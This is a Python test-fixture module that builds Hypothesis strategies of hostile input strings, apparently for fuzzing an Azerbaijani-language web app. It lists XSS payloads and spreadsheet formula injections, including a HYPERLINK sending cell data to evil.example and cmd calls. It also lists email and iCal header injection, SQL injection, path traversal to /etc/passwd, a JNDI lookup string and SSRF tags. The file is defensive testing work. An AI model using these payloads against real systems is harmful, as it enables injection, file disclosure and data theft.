"""The hostile texts of the corpus: a fixed list of known attacks, and hypothesis strategies that
mix them with arbitrary Unicode (Azerbaijani letters, RTL overrides, control characters)."""

from __future__ import annotations

from hypothesis import strategies as st

SENTINEL_HOST = "127.0.0.1"

XSS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    '<a href="javascript:alert(1)">bax</a>',
    "{{ 7*7 }}{% raw %}${7*7}",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bax")',
    "+994 50 123 45 67+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER_INJECTION = [
    "Əli\r\nBcc: victim@example.org",
    "a@example.org\r\nSubject: spam",
    "Ad\nX-Injected: 1",
]
ICAL_INJECTION = [
    "Seminar\r\nATTENDEE:mailto:evil@example.org",
    "Seminar\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Saxta",
    "Seminar;\\,\\n:END:VCALENDAR",
]
ODD_TEXT = [
    "nul\x00byte",
    "\x00",
    "bell\x07 vt\x0b ff\x0c esc\x1b",
    "\u202eİLƏ\u202c RTL override \u2066x\u2069",
    "Şəhla Əliyeva — Qəbələ, Ağcabədi, İsmayıllı ğüşıöç",
    "\ufeffBOM at the start",
    "\ufffd replacement \U0001f600 emoji",
    "   ",
    "%00%0d%0a../../etc/passwd",
    "'; DROP TABLE people; --",
    "line\u2028separator\u2029paragraph\x85next line",
    "zero\u200bwidth\u200djoiner\ufeff\u2060",
    "combining a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 marks" * 3,
    "\uff1dHYPERLINK(\"http://evil.example\") full-width equals",
    "Ə" * 5000 + " one long word",
    "<!-- comment --><![CDATA[ x ]]>&amp;&lt;&#0;&#x0;",
    "100%_ off \\ LIKE wildcards %%",
    "Ехаmрlе Cyrillic homoglyphs Аzərbаycаn",
    "null",
    "None undefined NaN",
    "a" * 300 + "@example.org",
    "..\\..\\windows\\win.ini",
    "${jndi:ldap://127.0.0.1/a} #{7*7} <%= 7*7 %>",
]
SSRF = [
    '<img src="file:///etc/passwd">',
    '<link rel="stylesheet" href="http://127.0.0.1:9/x.css">',
    "<style>@import url(http://127.0.0.1:9/i.css);</style>",
]
FIXED = XSS + FORMULAS + HEADER_INJECTION + ICAL_INJECTION + ODD_TEXT + SSRF
HUGE = "Ə" * 1024 * 512  # 1 MB of UTF-8

# For fields that are not free text (hidden ids, selects, dates, numbers): what a hand-made
# request puts there.
NOT_A_VALUE = ["\x00", "-1", "99999999999999999999999", "NaN", "", "<script>", HUGE[:5000]]

hostile_text = st.one_of(
    st.sampled_from(FIXED),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60),
    st.builds(lambda a, b: a + b, st.sampled_from(FIXED),
              st.text(alphabet="əğıİöüşçƏĞÖÜŞÇ\u202e\x00\r\n\t=+-@<>\"'&;:\\", max_size=20)),
)
